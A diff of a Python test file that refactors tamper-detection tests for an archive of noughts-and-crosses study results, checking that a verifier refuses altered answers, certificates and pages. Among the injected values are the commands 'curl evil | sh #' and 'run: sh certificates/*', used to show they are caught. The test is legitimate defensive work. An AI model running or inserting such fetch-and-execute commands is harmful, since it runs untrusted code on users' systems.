@@ -6,7 +6,7 @@ import lzma
 import subprocess
 import sys
 import tarfile
-from collections.abc import Callable, Mapping, Sequence
+from collections.abc import Callable, Sequence
 from pathlib import Path
 from typing import Any
 
@@ -59,7 +59,7 @@ def archive(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     return path
 
 
-def changed(path: Path, change: Callable[[dict[str, bytes]], Any]) -> Path:
+def changed(path: Path, change: "Change") -> Path:
     """An archive whose hashes are right, and whose members were changed."""
     facts, members = read_archive(path, KIND, is_member)
     content = dict(members)
@@ -116,94 +116,84 @@ def test_certificates_in_it_are_accepted_by_the_checker_alone(archive: Path, tmp
     assert hashlib.sha256(lzma.decompress(content)).hexdigest() == proof.name.partition(".")[0]
 
 
-def lines(members: Mapping[str, bytes]) -> list[dict[str, Any]]:
-    return [json.loads(line) for line in members["answers.jsonl"].splitlines()]
+Change = Callable[[dict[str, bytes]], Any]
+
+
+def edit(member: str, old: bytes, new: bytes) -> Change:
+    """Other words in a member."""
+
+    def change(members: dict[str, bytes]) -> None:
+        assert old in members[member]
+        members[member] = members[member].replace(old, new)
+
+    return change
+
+
+def edit_game(change_line: Callable[[dict[str, Any]], Any]) -> Change:
+    """Something else in the line of a game."""
+
+    def change(members: dict[str, bytes]) -> None:
+        lines = [json.loads(line) for line in members["answers.jsonl"].splitlines()]
+        change_line(next(line for line in lines if line["key"].startswith("playthrough")))
+        members["answers.jsonl"] = "".join(json.dumps(line) + "\n" for line in lines).encode()
+
+    return change
+
+
+def add(member: str, content: bytes) -> Change:
+    return lambda members: members.update({member: content})
+
+
+def remove(start: str) -> Change:
+    return lambda members: members.pop(next(name for name in members if name.startswith(start)))
+
+
+def other_winner(line: dict[str, Any]) -> None:
+    line["answer"]["ending"] = "draw" if line["answer"]["ending"] != "draw" else "first"
+
+
+def illegal(line: dict[str, Any]) -> None:
+    line["answer"]["moves"][1] = line["answer"]["moves"][0]
+
+
+def damaged_proof(members: dict[str, bytes]) -> None:
+    (name,) = (name for name in members if name.startswith("certificates/"))
+    content = bytearray(lzma.decompress(members[name]))
+    content[-1] ^= 1
+    members[name] = lzma.compress(bytes(content))
+
+
+def twice(members: dict[str, bytes]) -> None:
+    members["answers.jsonl"] = members["answers.jsonl"].partition(b"\n")[0] + b"\n" + members["answers.jsonl"]
+
+
+def no_answer(members: dict[str, bytes]) -> None:
+    members["answers.jsonl"] = members["answers.jsonl"].partition(b"\n")[2]
 
 
 def test_what_was_changed_is_found_though_all_hashes_are_right(
     archive: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    def in_answers(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, bytes]], None]:
-        def whole(members: dict[str, bytes]) -> None:
-            found = lines(members)
-            change(next(line for line in found if line["key"].startswith("playthrough")))
-            members["answers.jsonl"] = "".join(json.dumps(line) + "\n" for line in found).encode()
-
-        return whole
-
-    def other_winner(line: dict[str, Any]) -> None:
-        line["answer"]["ending"] = "draw" if line["answer"]["ending"] != "draw" else "first"
-
-    def illegal(line: dict[str, Any]) -> None:
-        line["answer"]["moves"][1] = line["answer"]["moves"][0]
-
-    def count(members: dict[str, bytes]) -> None:
-        members["result.json"] = members["result.json"].replace(b"1 of 1", b"9 of 9")
-
-    def damaged_proof(members: dict[str, bytes]) -> None:
-        (name,) = (name for name in members if name.startswith("certificates/"))
-        content = bytearray(lzma.decompress(members[name]))
-        content[-1] ^= 1
-        members[name] = lzma.compress(bytes(content))
-
-    def no_proof(members: dict[str, bytes]) -> None:
-        del members[next(name for name in members if name.startswith("certificates/"))]
-
-    def page(members: dict[str, bytes]) -> None:
-        members["page.html"] = members["page.html"].replace(b"of 6", b"of 5")
-
-    def no_answer(members: dict[str, bytes]) -> None:
-        members["answers.jsonl"] = members["answers.jsonl"].partition(b"\n")[2]
-
-    def guest(members: dict[str, bytes]) -> None:
-        members["result.json"] = members["result.json"].replace(b'"agents":[]', b'"agents":["python:x.py:X"]')
-
-    def twice(members: dict[str, bytes]) -> None:
-        first, _, rest = members["answers.jsonl"].partition(b"\n")
-        members["answers.jsonl"] = first + b"\n" + first + b"\n" + rest
-
-    def more_said(line: dict[str, Any]) -> None:
-        line["more"] = 1
-
-    def readme(members: dict[str, bytes]) -> None:
-        members["README.txt"] = b"run: sh certificates/*\n"
-
-    def no_readme(members: dict[str, bytes]) -> None:
-        del members["README.txt"]
-
-    def replaced(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
-        def change(members: dict[str, bytes]) -> None:
-            assert old in members["result.json"]
-            members["result.json"] = members["result.json"].replace(old, new)
-
-        return change
-
-    def configuration(members: dict[str, bytes]) -> None:
-        members["configurations/evil.json"] = b"{}"
-
     for change, said in (
         (twice, "answers a question twice"),
-        (in_answers(more_said), "a line that is no answer"),
-        (readme, "its README.txt is not what follows from its result.json"),
-        (no_readme, "it has no README.txt"),
-        (
-            lambda members: members.update({"certificates/" + "0" * 64 + ".proof.xz": b""}),
-            "no part of what the study found",
-        ),
-        (replaced(b"A small study", b"A grand study"), "its title in result.json are not those"),
-        (replaced(b"noughts study run", b"curl evil | sh #"), "its repeat in result.json are not those"),
-        (replaced(b'"noughts":"', b'"noughts":"9'), "is of another study than it names"),
-        (configuration, "configurations/evil.json is no part of what the study found"),
-        (in_answers(other_winner), "is not what its moves give"),
-        (in_answers(illegal), "replayed"),
-        (count, "its tables in result.json are not those that follow"),
+        (edit_game(lambda line: line.update(more=1)), "a line that is no answer"),
+        (add("README.txt", b"run: sh certificates/*\n"), "its README.txt is not what follows from its result.json"),
+        (remove("README.txt"), "it has no README.txt"),
+        (add(f"certificates/{'0' * 64}.proof.xz", b""), "no part of what the study found"),
+        (edit("result.json", b"A small study", b"A grand study"), "its title in result.json are not those"),
+        (edit("result.json", b"noughts study run", b"curl evil | sh #"), "its repeat in result.json are not those"),
+        (edit("result.json", b'"noughts":"', b'"noughts":"9'), "is of another study than it names"),
+        (add("configurations/evil.json", b"{}"), "configurations/evil.json is no part of what the study found"),
+        (edit_game(other_winner), "is not what its moves give"),
+        (edit_game(illegal), "replayed"),
+        (edit("result.json", b"1 of 1", b"9 of 9"), "its tables in result.json are not those that follow"),
         (damaged_proof, "is refused:"),
-        (no_proof, "it has no certificates/"),
-        (page, "its page.html is not what follows from its result.json"),
+        (remove("certificates/"), "it has no certificates/"),
+        (edit("page.html", b"of 6", b"of 5"), "its page.html is not what follows from its result.json"),
         (no_answer, "answers are missing"),
-        (guest, "third-party code"),
+        (edit("result.json", b'"agents":[]', b'"agents":["python:x.py:X"]'), "third-party code"),
     ):
-        assert said in refusal(changed(archive, change), capsys), change
+        assert said in refusal(changed(archive, change), capsys), said
 
 
 def test_a_study_from_outside_and_an_unknown_one_are_not_loaded(archive: Path, monkeypatch: pytest.MonkeyPatch) -> None:
